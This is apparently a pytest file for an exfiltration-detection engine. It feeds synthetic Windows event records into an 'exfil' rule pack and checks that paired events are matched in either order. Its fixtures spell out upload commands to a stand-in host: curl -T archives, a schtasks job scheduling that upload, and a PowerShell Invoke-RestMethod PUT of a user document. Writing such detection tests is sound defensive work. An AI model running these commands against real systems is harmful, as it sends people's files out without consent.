"""Sequences of the exfil pack on records as they are logged, in whatever order the file has them."""

import json
from pathlib import Path

import pytest

from exfilwatch.commands.fields import fields
from exfilwatch.detection.engine import Engine
from exfilwatch.detection.load import load
from exfilwatch.events.inputs import Limits, open_inputs
from exfilwatch.events.lines import LineDecoder
from exfilwatch.events.report import Report
from exfilwatch.rules.packs import pack

DATA = Path(__file__).parents[2] / "../shared/data/background"
SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
SCHEDULER, POWERSHELL = "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-PowerShell/Operational"
URL = "https://drop.example.net/in"
CURL = "C:\\Windows\\System32\\curl.exe"
EXEC = f"<Exec><Command>{CURL}</Command><Arguments>-T C:\\a.zip {URL}</Arguments></Exec>"
TASK = f'<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="Author">{EXEC}</Actions></Task>'
SCRIPT = f"Invoke-RestMethod {URL} -Method Put -InFile C:\\Users\\eva\\a.docx"


def record(channel, number, second, **data):
    """As OTRF has it."""
    time = f"2026-03-12T09:{second // 60:02}:{second % 60:02}.000Z"
    return {"@timestamp": time, "Hostname": "WS1", "Channel": channel, "EventID": number, "RecordNumber": second} | data


def process(second, line, image=CURL, **more):
    return record(SYSMON, 1, second, Image=image, CommandLine=line, ProcessId="4242", **more)


SEQUENCES = {
    "Task With An Upload Registered, Then Run": [
        record(SECURITY, 4698, 0, TaskName="\\x", TaskContent=TASK, SubjectUserName="eva"),
        process(600, f'"{CURL}" -T C:\\a.zip {URL}'),
    ],
    "Upload Put On A Schedule, Then Run": [
        process(0, f'schtasks /create /tn x /sc hourly /tr "{CURL} -T C:\\a.zip {URL}"', "C:\\x\\schtasks.exe"),
        process(600, f"{CURL}  -T C:\\a.zip {URL}"),
    ],
    "Upload By A Process That The Task Scheduler Launched": [
        record(SCHEDULER, 129, 1, TaskName="\\x", Path=CURL, ProcessID=4242),
        record(SECURITY, 4688, 2, NewProcessId="0x1092", NewProcessName=CURL, CommandLine=f"curl -T C:\\a.zip {URL}"),
    ],
    "Upload In A Script Block, And The Process That Ran It": [
        process(1, "powershell.exe -File C:\\x.ps1", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        record(POWERSHELL, 4104, 2, ProcessID=4242, ScriptBlockText=SCRIPT, ScriptBlockId="b"),
    ],
    "Archive That Appeared Where Anybody May Write, Then Uploaded": [
        record(SYSMON, 11, 1, Image="C:\\x\\pack.exe", TargetFilename="C:\\Windows\\Temp\\Q3.zip", ProcessId="7"),
        process(60, f"curl -T C:\\WINDOWS\\temp\\q3.zip {URL}"),
    ],
}


@pytest.mark.parametrize("backwards", [False, True], ids=["in order", "backwards"])
@pytest.mark.parametrize("title", SEQUENCES)
def test_a_sequence_of_records_is_found(title, backwards, tmp_path):
    records = SEQUENCES[title][::-1] if backwards else SEQUENCES[title]
    log = tmp_path / "log.json"
    log.write_text("\n".join(map(json.dumps, records)))
    report = Report()
    found = list(Engine(load([pack("exfil")]), report).run(open_inputs([str(log)], report, Limits(), replayable=True)))
    assert title in {each.rule.title for each in found}
    (whole,) = [each for each in found if each.rule.title == title]
    assert len(whole.events) == 2


@pytest.mark.skipif(not DATA.is_dir(), reason="the shared recordings are not on this machine")
def test_each_recorded_task_that_was_registered_says_what_it_runs():
    report, seen = Report(), []
    names = [str(path) for path in sorted(DATA.iterdir()) if "4698" in path.name or "schtasks" in path.name]
    for one in open_inputs(names, report, Limits(), replayable=False):
        decoder = LineDecoder(one.name, report)
        for block in one.blocks():
            for number, line in enumerate(block.lines(), block.first):
                seen += [each for each in decoder.feed(line, number) if each.raw.get("EventID") == 4698]
    assert len(seen) >= 2
    assert all(fields(event.get_raw)["schedule.command"] for event in seen)
